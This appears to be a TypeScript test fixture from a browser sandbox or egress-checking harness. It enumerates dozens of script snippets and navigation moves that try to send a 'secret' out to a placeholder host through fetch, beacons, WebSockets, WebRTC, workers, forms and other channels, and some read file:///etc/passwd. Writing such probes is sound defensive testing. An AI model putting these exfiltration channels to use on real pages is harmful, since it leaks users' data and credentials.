import type { WayOut } from './way.ts';

const script = (name: string, code: string): WayOut => ({ name, by: 'script', script: code });
/** A form of its own, sent into a frame of its own, so that the page stays. */
const form = (name: string, method: string): WayOut => ({
  name,
  by: 'element',
  html: `<iframe name="${name}" title="${name}"></iframe><form action="http://{to}" method="${method}" target="${name}"><input name="secret" value="1" aria-label="secret"></form><script>document.currentScript.previousElementSibling.submit()</script>`,
});
const inWorker = (code: string) => `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])))`;

/** What a page's script can ask for. */
export const SCRIPTS: readonly WayOut[] = [
  script('fetch', `fetch('http://{to}')`),
  script('fetch-no-cors', `fetch('http://{to}', { mode: 'no-cors' })`),
  script('fetch-keepalive', `fetch('http://{to}', { mode: 'no-cors', keepalive: true })`),
  script('fetch-post', `fetch('http://{to}', { mode: 'no-cors', method: 'POST', body: 'secret' })`),
  script('fetch-preflight', `fetch('http://{to}', { headers: { 'x-secret': '1' } })`),
  script('fetch-redirect', `fetch('/escape/redirect?to=http://{to}', { mode: 'no-cors' })`),
  script('fetch-file', `fetch('file:///etc/passwd?{trace}')`),
  script('xhr', `void (() => { const x = new XMLHttpRequest(); x.open('GET', 'http://{to}'); x.send(); })()`),
  script('xhr-sync', `void (() => { const x = new XMLHttpRequest(); x.open('GET', 'http://{to}', false); x.send(); })()`),
  script('beacon', `navigator.sendBeacon('http://{to}', 'secret')`),
  script('websocket', `opened(new WebSocket('ws://{name}:{port}/'))`),
  script('websocket-secure', `opened(new WebSocket('wss://{name}/'))`),
  script('event-source', `opened(new EventSource('http://{to}'))`),
  script('web-transport', `new WebTransport('https://{name}/').ready`),
  script('web-rtc-stun', `gather({ urls: 'stun:127.0.0.1:{port}' })`),
  script('web-rtc-turn', `gather({ urls: 'turn:127.0.0.1:{port}?transport=tcp', username: 'u', credential: 'c' })`),
  script('dns-over-https', `fetch('https://{name}/dns-query?name=secret.example', { mode: 'no-cors' })`),
  script('new-image', `void (new Image().src = 'http://{to}')`),
  script('new-audio', `void new Audio('http://{to}').load()`),
  script('font-face', `new FontFace('out', 'url(http://{to})').load()`),
  script('dynamic-import', `import('http://{to}')`),
  script('made-script', `void document.head.append(Object.assign(document.createElement('script'), { src: 'http://{to}' }))`),
  script('worker-fetch', inWorker(`fetch('http://{to}', { mode: 'no-cors' })`)),
  script('worker-import-scripts', inWorker(`importScripts('http://{to}')`)),
  script('worker-websocket', inWorker(`new WebSocket('ws://{name}:{port}/')`)),
  script('worker-of-another-site', `new Worker('http://{to}')`),
  script('shared-worker', `new SharedWorker('/escape/worker.js?to=http://{to}')`),
  script('service-worker', `navigator.serviceWorker.register('/escape/worker.js?to=http://{to}')`),
  script('worklet', `CSS.paintWorklet.addModule('http://{to}')`),
  script('blob-frame', `void (frame().src = URL.createObjectURL(new Blob(["<img src='http://{to}'>"], { type: 'text/html' })))`),
  script('frame-location', `void (frame().contentWindow.location = 'http://{to}')`),
  script('window-open', `window.open('http://{to}')`),
  script('window-open-blob', `window.open(URL.createObjectURL(new Blob(["<img src='http://{to}'>"], { type: 'text/html' })))`),
  script('link-click', `link({ href: 'http://{to}', target: '_blank' })`),
  script('link-ping', `link({ href: '/blank', ping: 'http://{to}', target: frame().name })`),
  script('link-download', `link({ href: 'http://{to}', download: 'secret.txt', target: frame().name })`),
  script('notification-icon', `void new Notification('out', { icon: 'http://{to}' })`),
  script('xml-stylesheet', `void (frame().src = '/escape/styled.xml?to=http://{to}')`),
  form('form-get', 'get'),
  form('form-post', 'post'),
];

/** What tries to take the page's own window elsewhere. */
export const MOVES: readonly WayOut[] = (
  [
    ['move-location', `location = 'http://{to}'`],
    ['move-form-get', `sendForm('get', 'http://{to}')`],
    ['move-form-post', `sendForm('post', 'http://{to}')`],
    [
      'move-meta-refresh',
      `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=http://{to}' }))`,
    ],
    ['move-javascript', `location = "javascript:void fetch('http://{to}')"`],
    ['move-file', `location = 'file:///etc/passwd?{trace}'`],
    ['move-data', `location = "data:text/html,<img src='http://{to}'>"`],
    ['move-view-source', `location = 'view-source:http://{to}'`],
    ['move-ftp', `location = 'ftp://{to}'`],
    ['move-mail', `location = 'mailto:{trace}@canary.example'`],
    // Last, because it has to go to its own site and back before the next move would stop it.
    ['move-redirect', `location = '/escape/redirect?to=http://{to}'`],
  ] as const
).map(([name, code]) => ({ name, by: 'move', script: code }));
